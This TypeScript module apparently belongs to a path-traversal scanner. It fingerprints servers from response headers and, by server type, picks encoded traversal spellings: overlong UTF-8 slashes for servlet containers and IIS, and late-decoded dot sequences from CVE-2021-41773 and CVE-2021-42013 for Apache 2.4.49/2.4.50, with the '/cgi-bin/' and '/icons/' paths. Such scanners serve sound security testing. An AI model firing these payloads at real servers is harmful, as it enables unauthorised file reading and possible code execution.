import { type Spelling, up } from '../files/traversal-payloads.ts';

type Headers = readonly (readonly [name: string, value: string])[];

const says = (headers: Headers, server: RegExp): boolean =>
  headers.some(([name, value]) => /^(?:server|x-powered-by)$/i.test(name) && server.test(value));

/**
 * The longer form of a slash, which old decoders of UTF-8 take for the short one. It is no UTF-8 (RFC 3629 §3), and small servers
 * of Node end at an address that cannot be decoded: only servers that were seen to be of another kind are sent it.
 */
const longSlash: Spelling = {
  spell: (path) => up('..%c0%af') + path.replaceAll('/', '%c0%af'),
  encoded: true,
};
const decodersOfOld = /glassfish|tomcat|coyote|jboss|jetty|weblogic|websphere|servlet|jsp|\biis\b/i;

/** Dots that are decoded, once or twice, after the server has looked for those that lead up. Source: CVE-2021-41773, CVE-2021-42013. */
const lateDots: readonly Spelling[] = ['.%2e/', '.%%32%65/'].map((step) => ({
  spell: (path) => up(step) + path,
  encoded: true,
}));
const decodesDotsLate = /\bApache\/2\.4\.(?:49|50)\b/;

/** Ways out of a folder that only this kind of server follows, by the headers of an origin's answer. */
export const spellingsOfServer = (headers: Headers): Spelling[] => [
  ...(says(headers, decodersOfOld) ? [longSlash] : []),
  ...(says(headers, decodesDotsLate) ? lateDots : []),
];

/** Folders which such a server has by its own settings: it leaves those alone that stand for another place of the disk. */
export const foldersOfServer = (headers: Headers): string[] =>
  says(headers, decodesDotsLate) ? ['/cgi-bin/', '/icons/'] : [];
